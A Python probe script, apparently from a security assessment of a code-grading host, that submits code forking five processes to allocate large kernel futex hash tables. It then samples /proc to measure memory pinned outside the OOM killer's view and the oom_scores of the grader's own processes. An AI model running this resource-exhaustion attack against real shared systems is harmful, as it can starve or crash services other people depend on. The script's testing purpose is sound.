"""a08: on the real host (no simulated parent cgroup), how much memory can one submission pin that the OOM killer
does not see? mallory: 5 processes x prctl(PR_FUTEX_HASH, 2^24 slots), hold 40 s. Host side: VmallocUsed,
MemAvailable, and the oom_score of her processes against the grader's own root processes."""
import os, time, threading
from common import *
CODE = '''
q1 = "b"
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
ok = 0
for i in range(5):
    r, w = os.pipe()
    if os.fork() == 0:
        os.write(w, str(libc.prctl(78, 1, 1 << 24, 0, 0)).encode()); time.sleep(40); os._exit(0)
    ok += os.read(r, 8) == b"0"
print("futex hashes of 2^24 slots made:", ok)
time.sleep(40)
'''
snap = {}
def sampler():
    t0 = time.time(); best = 0
    while time.time() - t0 < 150:
        vm = [int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.startswith("VmallocUsed")][0]
        if vm > best:
            best = vm
            ma = [int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.startswith("MemAvailable")][0]
            rows = []
            for pid in os.listdir("/proc"):
                try:
                    cmd = open(f"/proc/{pid}/cmdline").read()
                    if "attack50-root" not in cmd: continue
                    uid = [l.split()[1] for l in open(f"/proc/{pid}/status") if l.startswith("Uid")][0]
                    rows.append((int(open(f"/proc/{pid}/oom_score").read()),
                                 int(open(f"/proc/{pid}/statm").read().split()[1]) * 4096 >> 20, uid, pid,
                                 open(f"/proc/{pid}/comm").read().strip()))
                except (OSError, ValueError, IndexError):
                    pass
            snap.update(vm=vm, avail=ma, rows=sorted(rows, reverse=True))
        time.sleep(1)
th = threading.Thread(target=sampler, daemon=True); th.start()
c = probe_run("a08", CODE, others=("aaron", "zoe"))
times(c)
print("peak VmallocUsed MiB", snap.get("vm"), "MemAvailable then MiB", snap.get("avail"))
print("oom_score RSS_MiB uid pid comm at that moment (highest first):")
for r in snap.get("rows", [])[:14]:
    print(*r)
